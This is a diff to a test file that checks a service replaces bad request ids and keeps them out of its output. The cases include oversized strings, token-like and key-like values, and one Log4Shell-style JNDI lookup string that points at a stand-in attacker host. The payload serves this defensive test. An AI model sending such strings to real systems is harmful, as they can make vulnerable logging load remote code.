@@ -46,6 +46,8 @@ describe('a request id', () => {
     ['an expression', '${jndi:ldap://evil.example/a}'],
     ['one character too many', 'x'.repeat(129)],
     ['ten kilobytes', 'x'.repeat(10_240)],
+    ['a token', `kn_${'a'.repeat(43)}`],
+    ['a key', `KN_live_${'a'.repeat(43)}`],
     ['nothing', ''],
   ])('that holds %s is replaced, and shows nowhere', async (_name, given) => {
     const { answer, id, lines } = await ask(given);
